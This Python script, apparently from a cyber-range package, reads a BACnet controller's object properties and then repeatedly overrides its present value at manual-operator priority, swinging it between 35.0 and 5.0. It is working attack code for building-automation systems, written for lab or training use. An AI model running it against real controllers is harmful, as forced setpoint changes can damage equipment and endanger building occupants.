"""Asks a BACnet controller about one of its objects, then overrides its present value at a high priority.

References: ANSI/ASHRAE 135-2020 clauses 15.5, 15.9 (read and write), 19.2 (priorities), Annex J.2 (BVLC).
"""

import itertools
import socket
from collections.abc import Iterator, Sequence

from wardline_range.protocols import bacnet
from wardline_range.protocols.bacnet import ObjectId
from wardline_range.real.programs import lifetime
from wardline_range.real.programs.calls import heard
from wardline_range.real.programs.pace import beats

_PATIENCE_S = 1.0
_PRIORITY = 8
"""Manual operator."""


def main(given: Sequence[str] | None = None) -> None:
    """Write until the time is over."""
    parser = lifetime.arguments(__doc__)
    parser.add_argument("--controller", required=True)
    parser.add_argument("--port", type=int, default=bacnet.PORT)
    parser.add_argument("--kind", type=int, default=bacnet.ANALOG_VALUE, help="type of the object to write")
    parser.add_argument("--instance", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--every", type=float, default=0.5)
    told = parser.parse_args(given)
    target = ObjectId(told.kind, told.instance)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(_PATIENCE_S)
        out.connect((told.controller, told.port))
        for datagram, _ in zip(requests(target), beats(told.seconds, told.every), strict=False):
            try:
                out.send(datagram)
                heard(out)
            except OSError as error:
                print(f"{told.controller}: {error}", flush=True)


def requests(target: ObjectId) -> Iterator[bytes]:
    """First what tells about it, then writes without end."""
    invoke = itertools.count()
    for prop in (bacnet.OBJECT_NAME, bacnet.UNITS, bacnet.STATUS_FLAGS, bacnet.PRESENT_VALUE):
        yield bacnet.read_property(next(invoke) & 0xFF, target, prop)
    for turn in itertools.count():
        new = (35.0, 5.0)[turn % 2]
        yield bacnet.write_property(next(invoke) & 0xFF, target, bacnet.PRESENT_VALUE, new, _PRIORITY)


if __name__ == "__main__":
    main()
